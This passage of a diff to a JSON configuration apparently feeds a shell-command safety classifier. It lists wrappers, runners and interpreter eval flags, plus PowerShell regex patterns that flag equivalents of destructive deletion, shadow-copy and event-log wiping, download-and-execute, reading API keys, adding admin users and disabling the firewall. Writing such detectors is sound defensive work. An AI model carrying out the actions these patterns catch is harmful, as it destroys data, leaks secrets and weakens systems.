+:"a"},"builtin":{},"pkexec":{"long":["user"]},"run0":{"short":"uD","long":["user","chdir","property","setenv","unit"],"folder":["D","chdir"]},"gosu":{"skip":1},\
+"su-exec":{"skip":1},"taskset":{"skip":1},"setpriv":{"long":["reuid","regid","groups","inh-caps","bounding-set","securebits","pdeathsig"]},"runcon":{"short":"ut\
+rl","skip":1},"env":{"short":"uCS","long":["unset","chdir","split-string"],"assigns":true,"folder":["C","chdir"],"code":["S","split-string"]},"cross-env":{"assi\
+gns":true},"dotenv":{"short":"ef"},"nohup":{},"setsid":{},"disown":{},"prlimit":{},"unbuffer":{},"valgrind":{},"catchsegv":{},"entr":{},"firejail":{},"torsocks"\
+:{},"eatmydata":{},"ccache":{},"winpty":{},"busybox":{},"toybox":{},"noglob":{},"nocorrect":{},"bunx":{},"pnpx":{},"ddev":{"own":true},"lando":{"own":true},"nic\
+e":{"short":"n","long":["adjustment"]},"ionice":{"short":"cnpPu","long":["class","classdata"]},"chrt":{"short":"TPD","skip":1},"numactl":{"short":"NmCipP"},"tim\
+eout":{"short":"sk","long":["signal","kill-after"],"skip":1},"stdbuf":{"short":"ioe","long":["input","output","error"]},"time":{"short":"fo","long":["format","o\
+utput"]},"strace":{"short":"eopsPuXaIbOESU"},"ltrace":{"short":"eopsnaAuSlwF"},"hyperfine":{"short":"wrnmMpcSLDsu","long":["warmup","runs","prepare","cleanup","\
+shell","export-json","export-markdown"],"code":["p","c","prepare","cleanup"],"joined":true},"watch":{"short":"nq","long":["interval","equexit"],"joined":true},"\
+pdsh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"dsh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"c\
+lush":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"pssh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"\
+parallel-ssh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"flock":{"short":"wEc","long":["wait","timeout","conflict-exit-code","com\
+mand"],"skip":1,"code":["c","command"]},"script":{"short":"cEIOBTomt","long":["command"],"permuted":true,"skip":99,"code":["c","command"]},"chroot":{"long":["us\
+erspec","groups"],"skip":1,"own":true},"unshare":{"short":"SGRw","long":["setuid","setgid","root","wd"],"folder":["w","wd"],"own":true},"nsenter":{"short":"tSGr\
+w","long":["target","setuid","setgid"],"own":true},"fakeroot":{"short":"lsib"},"proot":{"short":"rbwqk"},"proxychains":{"short":"f"},"proxychains4":{"short":"f"\
+},"tini":{"short":"pe"},"dumb-init":{"short":"r"},"xvfb-run":{"short":"nesfpw"},"dbus-run-session":{"long":["config-file","dbus-daemon"]},"systemd-run":{"short"\
+:"pEMHtu","long":["property","setenv","unit","description","slice","uid","gid","working-directory","on-active","on-calendar","on-boot"],"own":true},"systemd-inh\
+ibit":{"long":["what","who","why","mode"]},"caffeinate":{"short":"tw"},"npx":{"short":"pc","long":["package","call"],"code":["c","call"]},"uvx":{"long":["from",\
+"with","python"]},"su":{"short":"cgGsw","long":["command","group","shell","session-command"],"permuted":true,"skip":99,"code":["c","command","session-command"]}\
+,"runuser":{"short":"cgGswu","long":["command","group","shell","session-command","user"],"code":["c","command","session-command"]},"sg":{"short":"c","permuted":\
+true,"skip":99,"code":["c"]}},"runners":{"npm":{"short":"c","long":["package","workspace","prefix","call"],"code":["c","call"],"after":["exec","x","explore"]},"\
+pnpm":{"short":"","long":["package","filter","dir"],"after":["exec","dlx"]},"yarn":{"short":"jp","long":["package","cwd","include","exclude","from","since","job\
+s"],"after":["dlx","exec"]},"bun":{"short":"","long":[],"after":["x","exec"]},"lerna":{"short":"","long":["scope","ignore","concurrency"],"after":["exec"]},"nx"\
+:{"short":"","long":[],"after":["exec"]},"bundle":{"short":"","long":[],"after":["exec"]},"rbenv":{"short":"","long":[],"after":["exec"]},"pyenv":{"short":"","l\
+ong":[],"after":["exec"]},"asdf":{"short":"","long":[],"after":["exec"]},"composer":{"short":"","long":[],"after":["exec"]},"volta":{"short":"","long":["node","\
+npm","yarn"],"after":["run"]},"fnm":{"short":"","long":["using"],"after":["exec"]},"corepack":{"short":"","long":[]},"flatpak-spawn":{"short":"","long":[]},"pip\
+x":{"short":"","long":["spec"],"after":["run"]},"uv":{"short":"","long":["with","python","project","directory","extra","group","env-file"],"after":["run"]},"poe\
+try":{"short":"","long":[],"after":["run"]},"pipenv":{"short":"","long":[],"after":["run"]},"pdm":{"short":"","long":[],"after":["run"]},"rye":{"short":"","long\
+":[],"after":["run"]},"hatch":{"short":"","long":[],"after":["run"]},"op":{"short":"","long":[],"after":["run"]},"doppler":{"short":"","long":[],"after":["run"]\
+},"infisical":{"short":"","long":[],"after":["run"]},"railway":{"short":"","long":[],"after":["run"]},"dotenv-vault":{"short":"","long":[],"after":["run"]},"her\
+oku":{"short":"ares","long":["app","remote","env","size"],"after":["run","run:detached"]},"conda":{"short":"np","long":["name","prefix"],"after":["run"]},"nvm":\
+{"short":"","long":[],"after":["exec"],"skip":1},"direnv":{"short":"","long":[],"after":["exec"],"skip":1},"lxc":{"short":"","long":[],"after":["exec"],"skip":1\
+},"mise":{"short":"","long":[],"after":["exec","x"]},"rustup":{"short":"","long":[],"after":["run"],"skip":1},"nix":{"short":"","long":[],"after":["develop","sh\
+ell","run"]},"vagrant":{"short":"c","long":["command"],"code":["c","command"],"after":["ssh"]},"repo":{"short":"c","long":["command"],"code":["c","command"],"af\
+ter":["forall"]}},"small_languages":{"lua":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"luajit":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"l\
+ua5.1":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.2":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.3":{"short":"e","long":[],"code"\
+:["e"],"dialect":"lua"},"lua5.4":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"Rscript":{"short":"e","long":[],"code":["e"],"dialect":"r"},"R":{"short":\
+"e","long":[],"code":["e"],"dialect":"r"},"julia":{"short":"eE","long":["eval","print"],"code":["e","E","eval","print"],"dialect":"julia"},"tclsh":{"short":"","\
+long":[],"dialect":"tcl"},"wish":{"short":"","long":[],"dialect":"tcl"},"expect":{"short":"c","long":[],"code":["c"],"dialect":"tcl"},"emacs":{"short":"e","long\
+":["eval"],"code":["eval","e"],"dialect":"lisp"},"emacsclient":{"short":"e","long":["eval"],"code":["eval","e"],"dialect":"lisp"},"clojure":{"short":"cex","long\
+":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"clj":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"bb":{"short":"cex",\
+"long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"guile":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"racket":{"sh\
+ort":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"sbcl":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"ec\
+l":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"clisp":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"li\
+sp"},"chicken":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"csi":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"di\
+alect":"lisp"},"gosh":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"elixir":{"short":"e","long":["eval"],"code":["e","eval"],"di\
+alect":"elixir"},"iex":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"mix":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"el\
+ixir"},"erl":{"short":"","long":["eval"],"code":["eval"],"dialect":"erlang"},"escript":{"short":"","long":["eval"],"code":["eval"],"dialect":"erlang"},"octave":\
+{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"octave-cli":{"short":"r","long":["eval","batch"],"code":["eval","batch","r\
+"],"dialect":"octave"},"matlab":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"ghc":{"short":"e","long":[],"code":["e"],"\
+dialect":"haskell"},"runghc":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"stack":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"scala":{\
+"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"scala-cli":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"amm":{"short":"ec","long":[]\
+,"code":["e","c"],"dialect":"named"},"kotlin":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"spark-shell":{"short":"","long":["master","deploy-mod\
+e","conf","packages","jars","name","driver-memory","executor-memory","queue"],"dialect":"named"},"swift":{"short":"e","long":["eval"],"code":["e","eval"],"diale\
+ct":"named"},"nim":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"crystal":{"short":"e","long":[],"code":["e"],"dialect":"named","operands\
+":"code"},"go":{"short":"","long":[],"dialect":"named"},"rustc":{"short":"","long":[],"dialect":"named"},"rust-script":{"short":"","long":[],"dialect":"named"},\
+"swiftc":{"short":"","long":[],"dialect":"named"},"zig":{"short":"","long":[],"dialect":"named"},"v":{"short":"","long":[],"dialect":"named"},"kotlinc":{"short"\
+:"","long":[],"dialect":"named"},"groovy":{"short":"e","long":[],"code":["e"],"dialect":"typed"},"java":{"short":"","long":[],"dialect":"typed"},"jshell":{"shor\
+t":"","long":[],"dialect":"typed"},"gcc":{"short":"","long":[],"dialect":"typed"},"cc":{"short":"","long":[],"dialect":"typed"},"tcc":{"short":"","long":[],"dia\
+lect":"typed"},"g++":{"short":"","long":[],"dialect":"typed"},"c++":{"short":"","long":[],"dialect":"typed"},"clang":{"short":"","long":[],"dialect":"typed"},"c\
+lang++":{"short":"","long":[],"dialect":"typed"},"csc":{"short":"","long":[],"dialect":"typed"},"dart":{"short":"","long":[],"dialect":"typed"},"dotnet":{"short\
+":"","long":[],"dialect":"typed","operands":"code"},"dotnet-script":{"short":"","long":[],"dialect":"typed","operands":"code"},"pwsh":{"short":"c","long":["Comm\
 and","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,\
 40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Hos\
 t|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bInvoke-ScriptAnalyzer\\\\s+-ScriptDefinition\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\\
@@ -2770,192 +2719,244 @@ estMethod|DownloadString)\\\\b[\\\\s\\\\S]*[&.]\\\\s*\\\\(?\\\\s*[\\"']?(?:iex|I
 e-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke\
 -WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest\
 |Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET\
-|PASSW)"]}},"powershell.exe":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\\
-"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{\
-0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bInvoke-Script\
-Analyzer\\\\s+-ScriptDefinition\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\\
-[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\
-\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf \`x\`/*":["(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|rd|rmdir|del)\\\\b(?=[^;\
-\\\\n|]{0,200}\\\\s-[rR])(?![^;\\\\n|#]{0,200}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,200}?\\\\s[\\"']?\\\\$env:(?!TEMP\\\\b|TMP\\\\b)\\\\w+[\\\\\\\\/]\\\\*"],"vssadmin delete shadows":["\\\\bW\
-in32_ShadowCopy\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject|ForEach-Object[^;\\\\n]{0,200}\\\\.Delete\\\\()"],"wevtutil cl System":["(?<=(?:^|[;{}\\\
-\\n|])\\\\s{0,40})wevtutil(?:\\\\.exe)?\\\\s+(?:cl|clear-log)\\\\b","\\\\bEventLogSession\\\\b[^;\\\\n]{0,200}\\\\.ClearLog\\\\("],"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0\
-,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?\
-[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:Wh\
-atIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|\
-del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[^;\\\\n|]{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(\
-?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-(?!Include|Filter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,\
-300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml|\
-Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:Read\
-All\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\b(?:Get-ChildItem|gci)\\\\s+(?:-Path\\\\s+)?([\\"'][^|\\\\n;]{1,400}?[\\"']\
-)(?=\\\\s+-|\\\\s*\\\\|)[^|\\\\n;]{0,100}\\\\|\\\\s*(?:ForEach-Object|%)\\\\s*\\\\{[^}\\\\n]{0,200}\\\\b(?:Get-Content|gc)\\\\b"],"cat ~/$":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Conte\
-nt|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\s+(?:-ChildPath\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"\
-echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,\
-()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"while :; do x & done":["\\\\b(?:wh\
-ile\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|break|Read-Host|Wait-\\\\w+|return|exit)\\\\b|\\\\s-Wai\
-t\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\\\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\
-\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([^\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)\
-?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEndpoint))\\\\b(?![^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\
-\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"killall $":["(?<![-\\\\w$.]|#[^\
-\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+[\\"']?([\\\\w.*-]+)"],"truncate -s 0 $":["(?<![\\\
-"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -\
-s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear\
--Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\\
-s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b\
-[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,(\
-)]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-]\
-[^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w])\
-)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|BaseName|FullName|Extension)\\\\\
-b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n\
-]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))\
-[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}\
-[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssa\
-dmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"\
-])*)","((?<![/\\\\\\\\.\\\\w])(?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+|Mailbox|Distributio\
-nGroup|Unified\\\\w+|Msol\\\\w+|SPO\\\\w+|PnP\\\\w+|Dba\\\\w+|Team|DnsServer\\\\w+|DhcpServer\\\\w+|GPO|ClusterResource|VMSnapshot|VirtualDisk|StoragePool)\\\\b[^;|\\\\n]*)","((?\
-:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|\
-CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"useradd x":["(?<=(?:^|[;{}\\\\n|])\\\\s{0,40})New-LocalUser\\\\b(?![^;\\\\n]{0,300}\\\\s-Wh\
-atIf(?![:\\\\w]))"],"usermod -aG sudo x":["(?<=(?:^|[;{}\\\\n|])\\\\s{0,40})Add-LocalGroupMember\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n]{0,200}Admin"],"ufw di\
-sable":["(?<=(?:^|[;{}\\\\n|])\\\\s{0,40})Set-NetFirewallProfile\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n]{0,200}\\\\s-Enabled:?\\\\s+[\\"']?(?:False|\\\\$false)"],"\
-curl x | sh":["\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*[&.]\\\\s*\\\\(?\\\\s*[\\"']?(?:iex|Invoke-Expression)\\\\b","[&.]\\\\s*\\\\((?:G\
-et-Alias|gal|Get-Command|gcm)\\\\s[^)\\\\n]{0,40}[?*][^)\\\\n]{0,40}\\\\)\\\\s{0,9}\\\\(?\\\\s{0,9}(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\\\\b","\\\\bscriptblock\\\\]::Cre\
-ate\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\
-\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Inv\
-oke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{\
-0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}}},"code_variables":{"man":{"variables":["MANPAGER","PAGER"]},"apropos":{"variables":["MANPAGER\
-","PAGER"]},"whatis":{"variables":["MANPAGER","PAGER"]},"less":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"zless":{"variables":["LESSOP\
-EN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"lesspipe":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"journalctl":{"variables":["SYSTEM\
-D_PAGER","SYSTEMD_EDITOR","PAGER"]},"systemctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"loginctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITO\
-R","PAGER"]},"timedatectl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"crontab":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"visudo":{"variabl\
-es":["SUDO_EDITOR","VISUAL","EDITOR"]},"vipw":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"vigr":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"sudo":{"va\
-riables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"sudoedit":{"variables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"kubectl":{"variables":["KU\
-BE_EDITOR","EDITOR"]},"oc":{"variables":["KUBE_EDITOR","EDITOR"]},"k":{"variables":["KUBE_EDITOR","EDITOR"]},"gh":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWS\
-ER","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITOR"]},"glab":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITOR"\
-]},"psql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mysql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mar\
-iadb":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"sqlite3":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"hg":{\
-"variables":["HGEDITOR","PAGER","EDITOR","VISUAL"]},"svn":{"variables":["SVN_SSH","SVN_EDITOR","EDITOR","VISUAL"]},"bat":{"variables":["BAT_PAGER","DELTA_PAGER"\
-,"PAGER"]},"delta":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"ssh":{"variables":["SSH_ASKPASS"]},"scp":{"variables":["SSH_ASKPASS"]},"sftp":{"variables"\
-:["SSH_ASKPASS"]},"ssh-add":{"variables":["SSH_ASKPASS"]},"aws":{"variables":["AWS_PAGER","PAGER"]},"rsync":{"variables":["RSYNC_RSH"]},"cvs":{"variables":["CVS\
